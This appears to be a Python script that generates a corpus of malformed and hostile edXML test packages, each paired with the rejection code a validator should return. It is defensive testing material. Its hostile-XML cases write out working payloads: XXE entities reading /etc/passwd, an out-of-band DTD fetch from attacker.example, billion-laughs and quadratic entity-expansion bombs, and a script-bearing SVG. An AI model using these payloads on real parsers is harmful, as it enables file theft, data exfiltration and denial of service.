"""Generate the golden corpus of bad and hostile edXML packages (tests/cases/edxml/).

Most cases are a real fixture from ../shared/fixtures/edxml with one thing changed, so
that each file fails for exactly the reason its manifest entry names. The script rewrites
every case file and `cases.toml`; its output is committed and checked by
tests/test_cases_edxml.py (which also checks that running this script changes nothing).

    .venv/bin/python tools/make_edxml_cases.py

Every case stays small (< 20 KB): size, depth and count limits are reached by lowering the
limit in the case's `settings`, and attachment cases start from edoc-2019-small, whose
attachment is tiny.
"""

from __future__ import annotations

import base64
import io
import json
import re
import sys
import unicodedata
import zipfile
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
FIXTURES = REPO.parent / "shared" / "fixtures" / "edxml"
OUT = REPO / "tests" / "cases" / "edxml"
MANIFEST = OUT / "cases.toml"
MAX_CASE_BYTES = 20_000

Settings = dict[str, int | bool]


@dataclass(frozen=True)
class Case:
    """A package refused with `expect` (or, when `warning`, accepted with that warning)."""

    file: str
    expect: str
    why: str
    data: bytes
    warning: bool = False
    settings: Settings = field(default_factory=dict)
    path: str | None = None  # the expected path of the first finding with `expect`


@dataclass(frozen=True)
class Tolerated:
    """A package that looks odd but must be accepted, with no error and no warning."""

    file: str
    why: str
    data: bytes


# --- the real packages the cases start from ---------------------------------------------


def fixture(name: str) -> str:
    return (FIXTURES / name).read_text(encoding="utf-8")


STATUS = fixture("status-01.edxml")
STATUS_02 = fixture("status-02.edxml")
SMALL = fixture("edoc-2019-small.edxml")
_UPDATE = fixture("edoc-update.edxml")  # only its header block is borrowed, never its payload

DECL = '<?xml version="1.0" encoding="UTF-8"?>'
NS = "http://www.mic.gov.vn/TBT/QCVN_102_2016"
HEADER = "/edXML/edXMLEnvelope/edXMLHeader/MessageHeader"
CTE = "/edXML/AttachmentEncoded/Attachment/ContentTransferEncoded"
ATT = "/edXML/AttachmentEncoded/Attachment"
REF = "/edXML/edXMLEnvelope/edXMLBody/edXMLManifest/Reference"
BUSINESS = "/edXML/edXMLEnvelope/edXMLHeader/TraceHeaderList/Bussiness"


def sub(text: str, old: str, new: str, count: int = 1) -> str:
    """Replace `old` exactly `count` times (0: every occurrence, at least one)."""
    found = text.count(old)
    if found == 0 or (count and found < count):
        raise SystemExit(f"make_edxml_cases: {old[:60]!r} not found in the fixture")
    return text.replace(old, new, count or found)


def resub(text: str, pattern: str, new: str) -> str:
    """Replace the first match of a regex (DOTALL); the fixture must contain it."""
    out, n = re.subn(pattern, lambda _m: new, text, count=1, flags=re.DOTALL)
    if n != 1:
        raise SystemExit(f"make_edxml_cases: /{pattern[:60]}/ not found in the fixture")
    return out


def search(pattern: str, text: str, group: int = 0) -> str:
    """A group of the first match of a regex (DOTALL); the fixture must contain it."""
    m = re.search(pattern, text, re.DOTALL)
    if not m:
        raise SystemExit(f"make_edxml_cases: /{pattern[:60]}/ not found in the fixture")
    return m.group(group)


def block(text: str, tag: str) -> str:
    """The first `<edXML:tag>...</edXML:tag>` element of a fixture, as written."""
    m = re.search(rf"<edXML:{tag}>.*?</edXML:{tag}>", text, re.DOTALL)
    if not m:
        raise SystemExit(f"make_edxml_cases: no <edXML:{tag}> in the fixture")
    return m.group(0)


def set_text(text: str, tag: str, value: str) -> str:
    """Set the text of the first `<edXML:tag>` that holds text only."""
    return resub(text, rf"<edXML:{tag}>[^<]*</edXML:{tag}>",
                 f"<edXML:{tag}>{value}</edXML:{tag}>")


def drop(text: str, tag: str) -> str:
    """Remove the first `<edXML:tag>` element and the indentation before it."""
    return resub(text, rf"\n[ \t]*<edXML:{tag}>.*?</edXML:{tag}>", "")


def in_block(text: str, tag: str, old: str, new: str) -> str:
    """Replace `old` inside the first `<edXML:tag>` element only."""
    b = block(text, tag)
    return sub(text, b, sub(b, old, new))


# The edoc-2019-small package without its two untidy details (a decomposed FullName, a
# manifest type that differs from the attachment's): a clean base, so that a warning case
# raises exactly the one warning it is about.
_FULLNAME = search(r"<edXML:FullName>([^<]*)</edXML:FullName>", SMALL, 1)
CLEAN = sub(SMALL, f"<edXML:FullName>{_FULLNAME}</edXML:FullName>",
            f"<edXML:FullName>{unicodedata.normalize('NFC', _FULLNAME)}</edXML:FullName>")
CLEAN = sub(CLEAN, "<edXML:ContentType>application/pdf</edXML:ContentType>",
            "<edXML:ContentType>application/zip</edXML:ContentType>")
PAYLOAD = search(r"<edXML:ContentTransferEncoded[^>]*>([^<]*)</edXML:ContentTransferEncoded>",
                 CLEAN, 1)
ATTACHMENT = search(r"<Attachment>.*?</Attachment>", CLEAN)
REFERENCE = block(CLEAN, "Reference")
CID = "36b8a92e-f054-11e7-842b-005056b672fc"

# The Bussiness block of the real update package (BussinessDocType 2, with DocumentId).
BUSINESS_UPDATE = block(_UPDATE, "Bussiness")


def with_business(base: str, business: str) -> str:
    """Add a Bussiness block at the end of the TraceHeaderList."""
    return sub(base, "</edXML:TraceHeaderList>", business + "\n      </edXML:TraceHeaderList>")


def with_payload(data: bytes | str, content_type: str = "application/zip",
                 base: str = CLEAN) -> str:
    """The clean edoc with another attachment, declared `content_type` on both sides."""
    text = base64.b64encode(data).decode("ascii") if isinstance(data, bytes) else data
    out = sub(base, PAYLOAD, text)
    out = sub(out, "<ContentType>application/zip</ContentType>",
              f"<ContentType>{content_type}</ContentType>")
    return sub(out, "<edXML:ContentType>application/zip</edXML:ContentType>",
               f"<edXML:ContentType>{content_type}</edXML:ContentType>")


def make_zip(entries: Iterable[tuple[str, bytes]],
             method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A reproducible zip: fixed timestamps, so regenerating changes no byte."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            info.compress_type = method
            zf.writestr(info, data, compresslevel=9)
    return buf.getvalue()


PDF = (b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
       b"2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
       b"trailer <</Root 1 0 R>>\n%%EOF\n")
# A DOS/PE header as an .exe starts ("MZ", e_lfanew, the DOS stub's message).
EXE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(43)
       + b"\x80\x00\x00\x00" + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
       + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(8))
# The 64-byte header of an x86-64 ELF executable.
ELF = (b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
       + b"\x78\x00\x40\x00\x00\x00\x00\x00" + b"\x40" + bytes(7) + bytes(8) + bytes(4)
       + b"\x40\x00\x38\x00\x01\x00\x00\x00\x00\x00\x00\x00")
DOCX_MIME = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def nfd(s: str) -> str:
    return unicodedata.normalize("NFD", s)


def billion_laughs() -> str:
    lines = ['<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        lines.append(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">')
    return "<!DOCTYPE edXML [\n" + "\n".join(lines) + "\n]>\n"


def status_with_doctype(doctype: str, *, where: str = "Phong hanh chinh",
                        ref: str = "&xxe;") -> str:
    out = sub(STATUS, DECL + "\n", DECL + "\n" + doctype)
    return sub(out, where, ref) if ref else out


def nested(tag: str, depth: int) -> str:
    return f"<{tag}>" * depth + "x" + f"</{tag}>" * depth


def u8(s: str) -> bytes:
    return s.encode("utf-8")


# --- the cases ------------------------------------------------------------------------


def prolog_cases() -> list[Case]:
    st = u8(STATUS)
    body_only = STATUS.split("?>", 1)[1].lstrip()
    return [
        Case("empty.bin", "edxml.empty", "a zero-byte upload", b""),
        Case("whitespace-only.bin", "edxml.empty", "spaces, tabs and line ends only",
             b" \t\r\n  \n\t "),
        Case("bom-only.bin", "edxml.empty", "a UTF-8 byte order mark and nothing else",
             b"\xef\xbb\xbf"),
        Case("comment-only.edxml", "edxml.not_well_formed", "a comment, no root element",
             u8(DECL + "\n<!-- edXML goes here -->\n")),
        Case("pi-only.edxml", "edxml.not_well_formed",
             "an XML declaration and a processing instruction, no root element",
             u8(DECL + '\n<?xml-stylesheet href="edxml.xsl"?>\n')),
        Case("decl-unterminated.edxml", "edxml.not_well_formed",
             "the XML declaration never ends", b'<?xml version="1.0" encoding="UTF-8"'),
        Case("junk-http-headers-before-prolog.edxml", "edxml.junk_before_prolog",
             "HTTP response headers saved into the file before the XML declaration",
             b"HTTP/1.1 200 OK\r\nContent-Type: application/xml\r\n\r\n" + st),
        Case("junk-whitespace-before-prolog.edxml", "edxml.junk_before_prolog",
             "a line end and spaces before the XML declaration (which must come first)",
             b"\n   " + st),
        Case("junk-double-bom.edxml", "edxml.junk_before_prolog",
             "two UTF-8 byte order marks: the second is a stray U+FEFF before the prolog",
             b"\xef\xbb\xbf\xef\xbb\xbf" + st),
        Case("junk-text-before-root.edxml", "edxml.junk_before_prolog",
             "text before the root without an XML declaration",
             u8("Văn bản: " + body_only)),
        Case("encoding-iso-8859-1.edxml", "edxml.encoding_unsupported",
             "declares ISO-8859-1: packages must be UTF-8 (TCVN 6909)",
             u8(sub(STATUS, 'encoding="UTF-8"', 'encoding="ISO-8859-1"'))),
        Case("encoding-windows-1258.edxml", "edxml.encoding_unsupported",
             "declares the Vietnamese Windows code page",
             u8(sub(STATUS, 'encoding="UTF-8"', "encoding='windows-1258'"))),
        Case("utf16-with-bom.edxml", "edxml.encoding_unsupported",
             "the whole package in UTF-16 with its byte order mark",
             sub(STATUS, 'encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")),
        Case("utf16le-without-bom.edxml", "edxml.encoding_unsupported",
             "UTF-16LE without a byte order mark (libxml2 would sniff and accept it)",
             sub(STATUS, 'encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-le")),
        Case("utf32be-without-bom.edxml", "edxml.encoding_unsupported",
             "UTF-32BE without a byte order mark",
             sub(STATUS, 'encoding="UTF-8"', 'encoding="UTF-32"').encode("utf-32-be")),
        Case("latin1-bytes-in-utf8.edxml", "edxml.not_utf8",
             "declared UTF-8, but a name typed in Latin-1 (0xF2 for ò)",
             st.replace(b"Phong hanh chinh", b"Ph\xf2ng h\xe0nh ch\xednh")),
        Case("cp1258-bytes-in-utf8.edxml", "edxml.not_utf8",
             "declared UTF-8, but the Subject saved in Windows-1258",
             u8(STATUS).replace(b"Phong hanh chinh",
                                nfd("Phòng hành chính").encode("cp1258"))),
        Case("utf8-overlong-slash.edxml", "edxml.not_utf8",
             "an overlong UTF-8 encoding of '/' (0xC0 0xAF)",
             st.replace(b"Phong hanh chinh", b"Phong\xc0\xafhanh")),
        Case("utf8-surrogate.edxml", "edxml.not_utf8",
             "a UTF-16 surrogate encoded as UTF-8 (CESU-8)",
             st.replace(b"Phong hanh chinh", b"Phong \xed\xa0\x80 hanh")),
        Case("nul-byte-in-text.edxml", "edxml.not_well_formed",
             "a NUL in a text node: valid UTF-8 but not an XML character",
             st.replace(b"Phong hanh chinh", b"Phong\x00hanh")),
        Case("control-char-in-text.edxml", "edxml.not_well_formed",
             "U+0001 in a text node: not an XML 1.0 character",
             st.replace(b"Phong hanh chinh", b"Phong\x01hanh")),
    ]


def hostile_xml_cases() -> list[Case]:
    return [
        Case("xxe-file-passwd.edxml", "edxml.doctype_forbidden",
             "XXE: an external entity reading file:///etc/passwd, used in StaffInfo",
             u8(status_with_doctype(
                 '<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'))),
        Case("xxe-parameter-entity.edxml", "edxml.doctype_forbidden",
             "XXE through a parameter entity fetching an attacker's DTD (out-of-band)",
             u8(status_with_doctype(
                 '<!DOCTYPE edXML [<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd">'
                 " %dtd;]>\n", ref=""))),
        Case("billion-laughs.edxml", "edxml.doctype_forbidden",
             "entity expansion: 10^9 'lol's from a 1 KB internal subset",
             u8(status_with_doctype(billion_laughs(), ref="&lol9;"))),
        Case("quadratic-blowup.edxml", "edxml.doctype_forbidden",
             "one 2 KB entity referenced 2000 times",
             u8(status_with_doctype(f'<!DOCTYPE edXML [<!ENTITY a "{"A" * 2000}">]>\n',
                                    ref="&a;" * 2000))),
        Case("external-dtd-http.edxml", "edxml.doctype_forbidden",
             "an external DTD by URL: the parser must never fetch it",
             u8(status_with_doctype(
                 '<!DOCTYPE edXML SYSTEM "http://attacker.example/edxml.dtd">\n', ref=""))),
        Case("external-dtd-public.edxml", "edxml.doctype_forbidden",
             "a PUBLIC external DTD",
             u8(status_with_doctype(
                 '<!DOCTYPE edXML PUBLIC "-//MIC//DTD edXML//VI" "edxml.dtd">\n', ref=""))),
        Case("doctype-harmless.edxml", "edxml.doctype_forbidden",
             "a bare, harmless DOCTYPE: any DOCTYPE is refused",
             u8(status_with_doctype("<!DOCTYPE edXML>\n", ref=""))),
        Case("doctype-internal-entity.edxml", "edxml.doctype_forbidden",
             "an internal entity only (no expansion risk): still a DOCTYPE",
             u8(status_with_doctype('<!DOCTYPE edXML [<!ENTITY org "UBND">]>\n',
                                    ref="&org;"))),
        Case("doctype-lowercase.edxml", "edxml.doctype_forbidden",
             "'<!doctype' in lower case",
             u8(status_with_doctype("<!doctype edXML>\n", ref=""))),
        Case("doctype-after-comment-and-pi.edxml", "edxml.doctype_forbidden",
             "the DOCTYPE hidden after a comment and a processing instruction",
             u8(status_with_doctype(
                 '<!-- signed -->\n<?app v="1"?>\n<!DOCTYPE edXML [<!ENTITY xxe SYSTEM '
                 '"file:///etc/hostname">]>\n'))),
        Case("doctype-after-long-whitespace.edxml", "edxml.doctype_forbidden",
             "the DOCTYPE after 200 bytes of whitespace (beyond any fixed look-ahead window)",
             u8(status_with_doctype(
                 "<!-- x -->" + " " * 200 + "\n" + billion_laughs(), ref="&lol9;"))),
        Case("doctype-without-declaration.edxml", "edxml.doctype_forbidden",
             "no XML declaration: the DOCTYPE is the first thing in the file",
             u8(sub(STATUS, DECL + "\n",
                    '<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n')
                .replace("Phong hanh chinh", "&xxe;"))),
        Case("doctype-after-bom.edxml", "edxml.doctype_forbidden",
             "a UTF-8 BOM, then the XML declaration and a DOCTYPE",
             b"\xef\xbb\xbf" + u8(status_with_doctype("<!DOCTYPE edXML>\n", ref=""))),
        Case("entity-undefined.edxml", "edxml.not_well_formed",
             "a reference to an undeclared entity (&foo;) without any DOCTYPE",
             u8(sub(STATUS, "Phong hanh chinh", "Phong &foo; hanh"))),
        Case("ampersand-bare.edxml", "edxml.not_well_formed",
             "a bare '&' in text (should be &amp;)",
             u8(sub(STATUS, "Phong hanh chinh", "Phong & hanh chinh"))),
        Case("cdata-end-in-text.edxml", "edxml.not_well_formed",
             "']]>' in character data",
             u8(sub(STATUS, "Phong hanh chinh", "Phong ]]> hanh"))),
        Case("truncated-status.edxml", "edxml.not_well_formed",
             "the status package cut off in the middle of StaffInfo",
             u8(STATUS[: STATUS.index("<edXML:Staff>") + 10])),
        Case("truncated-edoc-in-base64.edxml", "edxml.not_well_formed",
             "the document package cut off inside its attachment's base64",
             u8(CLEAN[: CLEAN.index(PAYLOAD) + 100])),
        Case("mismatched-end-tag.edxml", "edxml.not_well_formed",
             "an end tag that closes the wrong element",
             u8(sub(STATUS, "</edXML:Description>", "</edXML:Descriptoin>"))),
        Case("second-root.edxml", "edxml.not_well_formed",
             "a second edXML root after the first (package concatenation)",
             u8(STATUS + STATUS.split("?>", 1)[1])),
        Case("second-xml-declaration.edxml", "edxml.not_well_formed",
             "an XML declaration after a comment",
             u8(sub(STATUS, DECL + "\n", "<!-- x -->\n" + DECL + "\n"))),
        Case("undeclared-prefix.edxml", "edxml.not_well_formed",
             "an element prefix bound to no namespace",
             u8(sub(STATUS, "<edXML:StatusCode>01</edXML:StatusCode>",
                    "<ed:StatusCode>01</ed:StatusCode>"))),
        Case("xml-version-2.edxml", "edxml.not_well_formed",
             "XML version 2.0 does not exist",
             u8(sub(STATUS, 'version="1.0"', 'version="2.0"'))),
    ]


def limit_cases() -> list[Case]:
    deep_status = sub(STATUS, "<edXML:Department>", nested("v", 40) + "<edXML:Department>")
    flood = sub(STATUS, "</edXML:StaffInfo>", "<x/>" * 300 + "</edXML:StaffInfo>")
    two_atts = sub(CLEAN, ATTACHMENT,
                   ATTACHMENT + "\n    " + ATTACHMENT.replace(CID, "second"))
    two_atts = sub(two_atts, REFERENCE,
                   REFERENCE + "\n        " + REFERENCE.replace(CID, "second"))
    return [
        Case("too-large.edxml", "edxml.too_large",
             "status-01 unchanged (1.7 KB) under a 1000-byte limit",
             u8(STATUS), settings={"max_package_bytes": 1000}),
        Case("too-deep-setting.edxml", "edxml.too_deep",
             "status-01 unchanged (depth 6: From/OrganId) under a depth limit of 5",
             u8(STATUS), settings={"max_depth": 5}),
        Case("too-deep-vendor-nesting.edxml", "edxml.too_deep",
             "40 nested elements inside StaffInfo: deeper than the default 32",
             u8(deep_status)),
        Case("too-deep-beyond-libxml2.edxml", "edxml.too_deep",
             "2100 nested elements: past libxml2's own limit of 2048",
             u8(sub(STATUS, "<edXML:Department>", nested("v", 2100) + "<edXML:Department>"))),
        Case("too-many-elements-setting.edxml", "edxml.too_many_elements",
             "status-01 unchanged (26 elements) under a limit of 20 (counted in the tree)",
             u8(STATUS), settings={"max_elements": 20}),
        Case("too-many-elements-flood.edxml", "edxml.too_many_elements",
             "300 empty elements: refused by the '<' count before libxml2 builds them",
             u8(flood), settings={"max_elements": 100}),
        Case("too-many-attachments.edxml", "edxml.too_many_elements",
             "two attachments under a limit of one",
             u8(two_atts), settings={"max_attachments": 1},
             path="/edXML/AttachmentEncoded"),
    ]


def structure_cases() -> list[Case]:
    other_ns = "http://www.mic.gov.vn/TBT/QCVN_102_2015"
    header = block(STATUS, "MessageHeader")
    return [
        Case("wrong-namespace.edxml", "edxml.wrong_root",
             "the 2015 draft namespace instead of QCVN_102_2016",
             u8(sub(STATUS, NS, other_ns, 0))),
        Case("no-namespace.edxml", "edxml.wrong_root",
             "the root in no namespace (the envelope keeps its prefix binding)",
             u8(sub(STATUS, f'<edXML xmlns="{NS}">', "<edXML>"))),
        Case("wrong-root-name.edxml", "edxml.wrong_root",
             "root element edXMLPackage in the right namespace",
             u8(sub(sub(STATUS, "<edXML xmlns=", "<edXMLPackage xmlns="),
                    "</edXML>", "</edXMLPackage>"))),
        Case("html-root.edxml", "edxml.wrong_root",
             "an HTML error page uploaded as a package",
             u8("<html><head><title>502 Bad Gateway</title></head>"
                "<body><h1>502 Bad Gateway</h1></body></html>\n")),
        Case("envelope-missing.edxml", "edxml.schema_invalid",
             "the root holds the header directly: no edXMLEnvelope",
             u8(sub(sub(STATUS, f'<edXML:edXMLEnvelope xmlns:edXML="{NS}">',
                        f'<edXML:Envelope xmlns:edXML="{NS}">'),
                    "</edXML:edXMLEnvelope>", "</edXML:Envelope>")),
             path="/edXML"),
        Case("header-missing.edxml", "edxml.schema_invalid",
             "an envelope without edXMLHeader",
             u8(sub(sub(STATUS, "<edXML:edXMLHeader>", ""), "</edXML:edXMLHeader>", "")),
             path="/edXML/edXMLEnvelope"),
        Case("messageheader-missing.edxml", "edxml.schema_invalid",
             "edXMLHeader without MessageHeader (or Status)",
             u8(sub(sub(STATUS, "<edXML:MessageHeader>", "<edXML:MessageHead>"),
                    "</edXML:MessageHeader>", "</edXML:MessageHead>")),
             path="/edXML/edXMLEnvelope/edXMLHeader"),
        Case("messageheader-twice.edxml", "edxml.schema_invalid",
             "two MessageHeaders, the second from another sender: which one is routed?",
             u8(sub(STATUS, header,
                    header + "\n      " + header.replace("000.00.00.H41", "000.00.00.H37"))),
             path="/edXML/edXMLEnvelope/edXMLHeader"),
        Case("unknown-element-in-messageheader.edxml", "edxml.schema_invalid",
             "an element of the edXML namespace the schema does not know (status)",
             u8(sub(STATUS, "<edXML:StatusCode>",
                    "<edXML:Routing>000.00.00.H37</edXML:Routing>\n        <edXML:StatusCode>"))),
        Case("unknown-element-in-edoc-header.edxml", "edxml.schema_invalid",
             "an unknown edXML element in a document's MessageHeader",
             u8(sub(CLEAN, "<edXML:Subject>",
                    "<edXML:Secret>1</edXML:Secret>\n        <edXML:Subject>"))),
        Case("status-with-to.edxml", "edxml.schema_invalid",
             "a status package carries To, which only documents have",
             u8(sub(STATUS, "<edXML:StatusCode>",
                    "<edXML:To><edXML:OrganId>000.00.00.H37</edXML:OrganId></edXML:To>\n"
                    "        <edXML:StatusCode>"))),
        Case("element-inside-subject.edxml", "edxml.schema_invalid",
             "markup inside Subject, which is text only",
             u8(resub(CLEAN, r"<edXML:Subject>[^<]*",
                      "<edXML:Subject>V/v <b>khẩn</b>"))),
        Case("text-in-messageheader.edxml", "edxml.schema_invalid",
             "loose text between the elements of MessageHeader",
             u8(sub(STATUS, "<edXML:StatusCode>", "trạng thái: <edXML:StatusCode>"))),
        Case("unknown-root-attribute.edxml", "edxml.schema_invalid",
             "an unqualified attribute on the root",
             u8(sub(STATUS, "<edXML xmlns=", '<edXML routing="000.00.00.H37" xmlns='))),
        Case("from-twice.edxml", "edxml.schema_invalid",
             "two From blocks in a document: which agency sent it?",
             u8(sub(CLEAN, block(CLEAN, "From"),
                    block(CLEAN, "From") + "\n        "
                    + block(CLEAN, "From").replace("000.00.15.H51", "000.00.00.H37"))),
             path=f"{HEADER}/From"),
        Case("statuscode-twice.edxml", "edxml.schema_invalid",
             "two StatusCodes (01 then 06)",
             u8(sub(STATUS, "<edXML:StatusCode>01</edXML:StatusCode>",
                    "<edXML:StatusCode>01</edXML:StatusCode>"
                    "<edXML:StatusCode>06</edXML:StatusCode>"))),
        Case("priority-twice.edxml", "edxml.schema_invalid",
             "two Priority elements (0 then 3): the reader must not pick one",
             u8(sub(CLEAN, "<edXML:Priority>0</edXML:Priority>",
                    "<edXML:Priority>0</edXML:Priority><edXML:Priority>3</edXML:Priority>")),
             path=f"{HEADER}/OtherInfo/Priority[2]"),
        Case("tracelist-twice.edxml", "edxml.schema_invalid",
             "a second TraceHeaderList carrying a revocation",
             u8(sub(CLEAN, "</edXML:TraceHeaderList>",
                    "</edXML:TraceHeaderList>\n      <edXML:TraceHeaderList><edXML:Bussiness>"
                    "<edXML:BussinessDocType>1</edXML:BussinessDocType></edXML:Bussiness>"
                    "</edXML:TraceHeaderList>"))),
        Case("business-twice.edxml", "edxml.schema_invalid",
             "Bussiness and Business both present with different types",
             u8(with_business(CLEAN, "<edXML:Bussiness><edXML:BussinessDocType>0"
                              "</edXML:BussinessDocType></edXML:Bussiness><edXML:Business>"
                              "<edXML:BusinessDocType>1</edXML:BusinessDocType>"
                              "</edXML:Business>"))),
        Case("attachment-second-payload.edxml", "edxml.schema_invalid",
             "an Attachment with a second ContentTransferEncoded holding an .exe "
             "(never inspected if only the first is read)",
             u8(sub(CLEAN, "</edXML:ContentTransferEncoded>",
                    "</edXML:ContentTransferEncoded><ContentTransferEncoded>"
                    + base64.b64encode(EXE).decode() + "</ContentTransferEncoded>")),
             path=f"{CTE}[2]"),
        Case("to-organid-twice.edxml", "edxml.schema_invalid",
             "a To with two OrganIds: the routing key must be one",
             u8(in_block(CLEAN, "To", "<edXML:OrganId>000.00.15.H51</edXML:OrganId>",
                         "<edXML:OrganId>000.00.15.H51</edXML:OrganId>"
                         "<edXML:OrganId>000.00.00.H37</edXML:OrganId>")),
             path=f"{HEADER}/To/OrganId[2]"),
        Case("status-responsefor-organid-twice.edxml", "edxml.schema_invalid",
             "a status whose ResponseFor names two agencies (a status goes to that OrganId)",
             u8(in_block(STATUS, "ResponseFor", "<edXML:OrganId>000.00.00.G22</edXML:OrganId>",
                         "<edXML:OrganId>000.00.00.G22</edXML:OrganId>"
                         "<edXML:OrganId>000.00.00.H37</edXML:OrganId>")),
             path=f"{HEADER}/ResponseFor/OrganId[2]"),
        Case("attachment-contentid-twice.edxml", "edxml.schema_invalid",
             "an Attachment with two ContentIds",
             u8(sub(CLEAN, f"<ContentId>cid:{CID}</ContentId>",
                    f"<ContentId>cid:{CID}</ContentId><ContentId>cid:other</ContentId>"))),
    ]


def document_rule_cases() -> list[Case]:
    to_block = block(CLEAN, "To")
    code_block = block(CLEAN, "Code")
    update_no_id = resub(BUSINESS_UPDATE, r"\s*<edXML:DocumentId>[^<]*</edXML:DocumentId>", "")
    replace_no_id = sub(update_no_id, "<edXML:BussinessDocType>2</edXML:BussinessDocType>",
                        "<edXML:BussinessDocType>3</edXML:BussinessDocType>")
    return [
        Case("missing-to.edxml", "edxml.missing_recipient",
             "a document without any To", u8(drop(CLEAN, "To")), path=HEADER),
        Case("to-without-organid.edxml", "edxml.missing_element",
             "a To block with a name but no OrganId",
             u8(in_block(CLEAN, "To", "<edXML:OrganId>000.00.15.H51</edXML:OrganId>", "")),
             path=f"{HEADER}/To[1]"),
        Case("to-empty-organid.edxml", "edxml.missing_element",
             "a To whose OrganId is only spaces",
             u8(in_block(CLEAN, "To", "<edXML:OrganId>000.00.15.H51</edXML:OrganId>",
                         "<edXML:OrganId>   </edXML:OrganId>")),
             path=f"{HEADER}/To[1]"),
        Case("from-without-organid.edxml", "edxml.missing_element",
             "the sender has no OrganId",
             u8(in_block(CLEAN, "From", "<edXML:OrganId>000.00.15.H51</edXML:OrganId>", "")),
             path=f"{HEADER}/From"),
        Case("from-missing.edxml", "edxml.missing_element",
             "a document without From", u8(drop(CLEAN, "From")), path=f"{HEADER}/From"),
        Case("documentid-missing.edxml", "edxml.missing_element",
             "a document without DocumentId", u8(drop(CLEAN, "DocumentId")),
             path=f"{HEADER}/DocumentId"),
        Case("subject-missing.edxml", "edxml.missing_element",
             "a document without Subject", u8(drop(CLEAN, "Subject")),
             path=f"{HEADER}/Subject"),
        Case("codenumber-missing.edxml", "edxml.missing_element",
             "Code without CodeNumber",
             u8(sub(CLEAN, code_block, resub(code_block, r"\s*<edXML:CodeNumber>[^<]*"
                                             r"</edXML:CodeNumber>", ""))),
             path=f"{HEADER}/Code/CodeNumber"),
        Case("promulgationdate-missing.edxml", "edxml.missing_element",
             "PromulgationInfo without PromulgationDate",
             u8(drop(CLEAN, "PromulgationDate")), path=f"{HEADER}/PromulgationInfo"),
        Case("update-without-business-documentid.edxml", "edxml.missing_element",
             "BussinessDocType 2 (update) without Bussiness/DocumentId: update of what?",
             u8(with_business(CLEAN, update_no_id)),
             path="/edXML/edXMLEnvelope/edXMLHeader/TraceHeaderList/Bussiness"),
        Case("replace-without-business-documentid.edxml", "edxml.missing_element",
             "BussinessDocType 3 (replace) naming no replaced document: neither "
             "ReplacementInfo/DocumentId (spec §3) nor Bussiness/DocumentId",
             u8(with_business(CLEAN, replace_no_id)), path=BUSINESS),
        Case("business-doctype-7.edxml", "edxml.value_invalid",
             "BussinessDocType 7: the table has 0–3",
             u8(with_business(CLEAN, sub(BUSINESS_UPDATE, ">2</edXML:BussinessDocType>",
                                         ">7</edXML:BussinessDocType>")))),
        Case("pageamount-not-integer.edxml", "edxml.value_invalid",
             "PageAmount 'hai' (two, in words)",
             u8(set_text(CLEAN, "PageAmount", "hai")),
             path=f"{HEADER}/OtherInfo/PageAmount"),
        Case("promulgationamount-decimal.edxml", "edxml.value_invalid",
             "PromulgationAmount 2.5",
             u8(set_text(CLEAN, "PromulgationAmount", "2.5"))),
        Case("documenttype-not-integer.edxml", "edxml.value_invalid",
             "DocumentType/Type 'CV' instead of a number",
             u8(set_text(CLEAN, "Type", "CV"))),
        Case("priority-5.edxml", "edxml.priority_invalid", "Priority 5: the table has 0–4",
             u8(set_text(CLEAN, "Priority", "5")), path=f"{HEADER}/OtherInfo/Priority"),
        Case("priority-minus-1.edxml", "edxml.priority_invalid", "Priority -1",
             u8(set_text(CLEAN, "Priority", "-1"))),
        Case("priority-x.edxml", "edxml.priority_invalid", "Priority 'x'",
             u8(set_text(CLEAN, "Priority", "x"))),
        Case("priority-words.edxml", "edxml.priority_invalid", "Priority 'Hỏa tốc' in words",
             u8(set_text(CLEAN, "Priority", "Hỏa tốc"))),
        Case("priority-fullwidth-digit.edxml", "edxml.priority_invalid",
             "Priority '３' (a full-width digit Python's int() would accept)",
             u8(set_text(CLEAN, "Priority", "\uff13"))),
        Case("promulgationdate-fullwidth.edxml", "edxml.date_invalid",
             "PromulgationDate in full-width digits",
             u8(set_text(CLEAN, "PromulgationDate", "\uff12\uff10\uff11\uff19/01/17"))),
        Case("contentid-empty-both.edxml", "edxml.missing_element",
             "an empty ContentId on both the reference and the attachment",
             u8(CLEAN.replace("cid:36b8a92e-f054-11e7-842b-005056b672fc", ""))),
        Case("svg-attachment.edxml", "edxml.attachment_type_forbidden",
             "an SVG image (it can carry scripts) is not allowed by default",
             u8(with_payload(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)'
                             b'</script></svg>', "image/svg+xml"))),
        Case("promulgationdate-2020-02-30.edxml", "edxml.date_invalid",
             "PromulgationDate 2020/02/30 does not exist",
             u8(set_text(CLEAN, "PromulgationDate", "2020/02/30")),
             path=f"{HEADER}/PromulgationInfo/PromulgationDate"),
        Case("promulgationdate-month-13.edxml", "edxml.date_invalid",
             "PromulgationDate 17/13/2019 in the dd/MM/yyyy variant",
             u8(set_text(CLEAN, "PromulgationDate", "17/13/2019"))),
        Case("promulgationdate-words.edxml", "edxml.date_invalid",
             "PromulgationDate 'hôm nay' (today)",
             u8(set_text(CLEAN, "PromulgationDate", "hôm nay"))),
        Case("duedate-impossible.edxml", "edxml.date_invalid", "DueDate 2018/06/31",
             u8(set_text(CLEAN, "DueDate", "2018/06/31"))),
